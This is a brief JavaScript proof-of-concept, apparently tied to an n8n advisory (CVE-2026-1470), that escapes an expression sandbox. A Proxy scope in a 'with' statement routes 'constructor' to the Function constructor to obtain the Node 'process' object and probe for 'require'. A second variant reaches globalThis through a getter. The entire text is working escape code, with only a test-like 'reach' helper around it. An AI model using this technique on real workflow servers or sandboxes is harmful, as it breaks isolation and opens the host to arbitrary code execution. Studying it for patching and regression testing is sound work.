// A with statement over a scope that answers for every name.
// advisory: CVE-2026-1470 (n8n)
const scope = new Proxy({}, { has: () => true, get: (target, name) => (name === Symbol.unscopables ? undefined : name === 'constructor' ? Function : globalThis[name]) });
const run = new Function('scope', 'with (scope) { return [constructor("return process")(), typeof require, constructor]; }');
reach(...run(scope));
try { reach(new Function('with ({ get constructor() { return (function () {}).constructor; } }) { return constructor("return globalThis")(); }')()); } catch (error) { console.log(error.name); }
